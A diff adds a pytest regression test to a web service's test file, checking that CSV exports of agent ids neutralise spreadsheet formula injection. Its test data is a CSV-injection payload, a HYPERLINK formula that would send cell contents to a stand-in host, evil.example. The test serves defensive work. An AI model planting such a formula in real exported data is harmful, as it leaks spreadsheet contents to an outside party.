@@ -9,6 +9,8 @@ again while it is open (the live stream)."""
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 import threading
 from collections.abc import Iterator
@@ -363,3 +365,25 @@ def test_a_long_id_or_action_does_not_widen_the_page(seeded: Server, pages: Page
         assert overflow <= 1, (table, overflow)
     assert pages.errors(page) == []
 
+
+# ------------------------------------------------------------------------------ CSV exports
+
+def agents_csv(server: Server) -> list[dict[str, str]]:
+    answer = server.get("/v1/impact?format=csv&table=agents")
+    assert answer.status == 200, answer.text
+    return list(csv.DictReader(io.StringIO(answer.text, newline="")))
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "\x00"])
+def test_no_csv_cell_starts_a_formula(probed: Server, start: str) -> None:
+    """Every cell an agent's text starts (its id; the other tables' cells are the policy's) gets
+    a leading `'` when a spreadsheet would read it as a formula. Before, a NUL (ASVS 1.2.10)
+    or a line feed first was written as it was."""
+    agent = f"{start}HYPERLINK(\"http://evil.example/?\"&A1) csv"
+    for _ in range(3):
+        decide(probed, agent, "DELETE_ALL")
+    rows = {row["agent"]: row for row in agents_csv(probed)}
+    assert "'" + agent in rows, sorted(rows)
+    assert not [cell for row in rows.values() for cell in row.values()
+                if cell[:1] in ("=", "+", "@", "\t", "\r", "\n", "\x00") or
+                cell.startswith("-") and not cell.lstrip("-").replace(".", "").isdigit()]
